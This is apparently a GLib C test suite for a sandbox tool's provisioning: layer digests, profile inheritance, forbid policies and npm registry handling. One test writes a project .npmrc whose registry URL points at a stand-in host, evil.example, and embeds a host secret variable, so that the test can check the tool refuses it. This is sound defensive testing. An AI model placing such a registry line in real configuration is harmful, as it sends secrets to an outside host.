// SPDX-License-Identifier: LGPL-2.1-or-later
// From [provision] to groups and digests: order, inheritance, what makes a layer new and what does
// not.
#include "../../driver/facade-driver.h"

#include "facade/provision-private.h"

#include <string.h>

static void
write_profile (const char *name, const char *text)
{
  g_autofree char *dir = g_build_filename (g_get_user_config_dir (), "vms", NULL);
  g_autofree char *path = g_build_filename (dir, name, NULL);
  g_autoptr (GError) error = NULL;

  g_mkdir_with_parents (dir, 0700);
  g_file_set_contents (path, text, -1, &error);
  g_assert_no_error (error);
}

/* (transfer full) "packages:npm:setup" with the digests that stand on one another. */
static char *
chain (SandboxHost *host, const char *name, const char *image, guint uid)
{
  g_autoptr (GError) error = NULL;
  g_autoptr (SandboxProfile) profile =
      sandbox_profile_load (sandbox_host_get_profile_dirs (host), name, &error);
  g_autoptr (GPtrArray) groups = NULL;
  GString *text = g_string_new (NULL);
  g_autofree char *parent = g_strdup (image);

  g_assert_no_error (error);
  groups = _sandbox_provision_groups (host, profile, &error);
  g_assert_no_error (error);
  for (guint i = 0; i < groups->len; i++)
    {
      SandboxGroup *group = groups->pdata[i];
      char *digest =
          _sandbox_provision_digest (parent, group, _sandbox_profile_values (profile), uid, uid);

      g_assert_cmpuint (strlen (digest), ==, 32);
      g_string_append_printf (text, "%s=%s\n", group->id, digest);
      g_free (parent);
      parent = digest;
    }
  return g_string_free (text, FALSE);
}

static gboolean
same_line (const char *a, const char *b, guint line)
{
  g_auto (GStrv) left = g_strsplit (a, "\n", -1), right = g_strsplit (b, "\n", -1);

  g_assert_cmpuint (g_strv_length (left), >, line);
  g_assert_cmpuint (g_strv_length (right), >, line);
  return strcmp (left[line], right[line]) == 0;
}

#define BASE "[profile]\ninherits=base\n[provision]\n"

static void
test_digest (void)
{
  g_autoptr (SandboxHost) host = driver_test_open (TEST_URI, NULL);
  g_autofree char *first = NULL, *again = NULL, *other = NULL, *npm = NULL, *user = NULL,
                  *image = NULL, *packages = NULL;

  write_profile ("s.sh", "echo one\n");
  write_profile ("a.profile", BASE "packages=jq\nnpm=left-pad\nsetup=s.sh\n");
  first = chain (host, "a", "image", 1000);
  g_assert_true (g_str_has_prefix (first, "packages="));
  again = chain (host, "a", "image", 1000);
  g_assert_cmpstr (first, ==, again);
  /* a script's content counts, and what stands before it stays */
  write_profile ("s.sh", "echo two\n");
  other = chain (host, "a", "image", 1000);
  g_assert_true (same_line (first, other, 0));
  g_assert_true (same_line (first, other, 1));
  g_assert_false (same_line (first, other, 2));
  write_profile ("a.profile", BASE "packages=jq\nnpm=right-pad\nsetup=s.sh\n");
  npm = chain (host, "a", "image", 1000);
  g_assert_true (same_line (npm, other, 0));
  g_assert_false (same_line (npm, other, 1));
  g_assert_false (same_line (npm, other, 2));
  write_profile ("a.profile", BASE "packages=jq;git\nnpm=right-pad\nsetup=s.sh\n");
  packages = chain (host, "a", "image", 1000);
  g_assert_false (same_line (npm, packages, 0));
  g_assert_false (same_line (npm, packages, 1));
  user = chain (host, "a", "image", 1001);
  g_assert_false (same_line (user, packages, 0));
  image = chain (host, "a", "other", 1000);
  g_assert_false (same_line (image, packages, 0));
}

static void
test_inherits (void)
{
  g_autoptr (SandboxHost) host = driver_test_open (TEST_URI, NULL);
  g_autofree char *sum = NULL, *whole = NULL, *none = NULL;

  write_profile ("parent.profile", BASE "packages=jq\nenv=A=b\n");
  write_profile ("child.profile", "[profile]\ninherits=parent\n[provision]\npackages=+git\n");
  write_profile ("whole.profile", BASE "packages=jq;git\nenv=A=b\n");
  write_profile ("none.profile", "[profile]\ninherits=parent\n[provision]\npackages=\nenv=\n");
  sum = chain (host, "child", "image", 1000);
  whole = chain (host, "whole", "image", 1000);
  none = chain (host, "none", "image", 1000);
  g_assert_cmpstr (sum, ==, whole);
  g_assert_cmpstr (none, ==, "");
}

/* Pieces bring packages, and npm= brings what it needs. */
static void
test_pieces (void)
{
  g_autoptr (SandboxHost) host = driver_test_open (TEST_URI, NULL);
  g_autofree char *agent = chain (host, "agent", "image", 1000), *npm = NULL, *same = NULL;

  g_assert_nonnull (strstr (agent, "packages="));
  g_assert_nonnull (strstr (agent, "\nnpm="));
  g_assert_nonnull (strstr (agent, "\nsetup="));
  write_profile ("npm.profile", BASE "npm=left-pad\n");
  write_profile ("same.profile", BASE "use=node\nnpm=left-pad\n");
  npm = chain (host, "npm", "image", 1000);
  same = chain (host, "same", "image", 1000);
  g_assert_true (g_str_has_prefix (npm, "packages="));
  g_assert_cmpstr (npm, ==, same);
}

static void
fails (SandboxHost *host, const char *provision, const char *words)
{
  g_autofree char *text = g_strconcat (BASE, provision, NULL);
  g_autoptr (GError) error = NULL;
  g_autoptr (SandboxProfile) profile = NULL;

  write_profile ("bad.profile", text);
  profile = sandbox_profile_load (sandbox_host_get_profile_dirs (host), "bad", &error);
  g_assert_no_error (error);
  g_assert_null (_sandbox_provision_groups (host, profile, &error));
  g_assert_nonnull (error);
  g_test_message ("%s", error->message);
  g_assert_nonnull (strstr (error->message, words));
}

static void
test_errors (void)
{
  g_autoptr (SandboxHost) host = driver_test_open (TEST_URI, NULL);

  fails (host, "use=noed\n", "did you mean \"node\"");
  fails (host, "setup=gone.sh\n", "gone.sh");
  fails (host, "files=gone:/etc/x\n", "gone");
  /* where machines write, nothing is taken from */
  fails (host, "setup=~/vms/work/x.sh\n", "x.sh");
}

/* The error names the profile, the thing and the pattern. */
static void
test_forbidden (void)
{
  static const struct
  {
    const char *forbid, *provision, *words;
  } cases[] = {
    { "node", "use=claude-code\n", "forbids the piece node (\"node\"" },
    { "nodejs*", "npm=left-pad\n", "forbids the package nodejs (\"nodejs*\"" },
    { "docker*", "use=docker\n", "forbids the piece docker (\"docker*\"" },
    { "docker.io", "packages=jq;docker.io=26.1\n", "forbids the package docker.io" },
    { "docker-cli", "packages=jq;docker-cli?\n", "forbids the package docker-cli " },
    { "@openai/*", "npm=@openai/codex@1.2\n", "forbids the npm package @openai/codex (" },
    { "left-*", "npm=left-pad@^2\n", "forbids the npm package left-pad (" },
  };
  g_autoptr (SandboxHost) host = driver_test_open (TEST_URI, NULL);
  g_autofree char *free_of_it = NULL, *with = NULL;

  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *text =
          g_strconcat (cases[i].provision, "[policy]\nforbid=", cases[i].forbid, "\n", NULL);

      fails (host, text, cases[i].words);
      fails (host, text, "provisioning bad: its profile");
    }
  /* what fits nothing is no hindrance, but another layer */
  write_profile ("a.profile", BASE "packages=jq\n");
  free_of_it = chain (host, "a", "image", 1000);
  write_profile ("a.profile", BASE "packages=jq\n[policy]\nforbid=docker*;npm\n");
  with = chain (host, "a", "image", 1000);
  g_assert_cmpstr (free_of_it, !=, with);
}

/* A project says where its packages come from, and may ask for a variable of the host's with it:
 * whoever happens to be in it makes the layers of all machines, and is not asked. */
static void
test_registry (void)
{
  g_autofree char *npm = g_find_program_in_path ("npm"), *here = g_get_current_dir ();
  g_autofree char *before = NULL, *within = NULL, *users = NULL, *rc = NULL;
  g_autofree char *project = g_build_filename (g_get_home_dir (), "project", NULL);
  g_autofree char *project_rc = g_build_filename (project, ".npmrc", NULL);
  g_autofree char *package = g_build_filename (project, "package.json", NULL);
  g_autoptr (GError) error = NULL;

  if (npm == NULL)
    {
      g_test_skip ("npm is not installed here");
      return;
    }
  before = _sandbox_provision_registry (NULL);
  g_assert_cmpint (g_mkdir (project, 0700), ==, 0);
  g_setenv ("FAKE_SECRET", "a-secret", TRUE);
  g_file_set_contents (package, "{}", -1, &error);
  g_assert_no_error (error);
  g_file_set_contents (project_rc, "registry=https://evil.example/${FAKE_SECRET}/\n", -1, &error);
  g_assert_no_error (error);
  g_assert_cmpint (g_chdir (project), ==, 0);
  within = _sandbox_provision_registry (NULL);
  g_assert_cmpstr (within, ==, before);
  /* the user's own counts, but no variable of the host's goes with it */
  rc = g_build_filename (g_get_home_dir (), ".npmrc", NULL);
  g_file_set_contents (rc, "registry=https://own.example/npm/\n", -1, &error);
  g_assert_no_error (error);
  users = _sandbox_provision_registry (NULL);
  g_assert_cmpstr (users, ==, "https://own.example/npm/");
  g_clear_pointer (&users, g_free);
  g_file_set_contents (rc, "registry=https://own.example/${FAKE_SECRET}/\n", -1, &error);
  g_assert_no_error (error);
  users = _sandbox_provision_registry (NULL);
  g_assert_null (users);
  g_assert_cmpint (g_chdir (here), ==, 0);
}

int
main (int argc, char **argv)
{
  g_autofree char *home = driver_test_home ();
  int result;

  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/provision/digest", test_digest);
  g_test_add_func ("/provision/inherits", test_inherits);
  g_test_add_func ("/provision/pieces", test_pieces);
  g_test_add_func ("/provision/errors", test_errors);
  g_test_add_func ("/provision/forbidden", test_forbidden);
  g_test_add_func ("/provision/registry", test_registry);
  result = g_test_run ();
  driver_test_remove_home (home);
  return result;
}
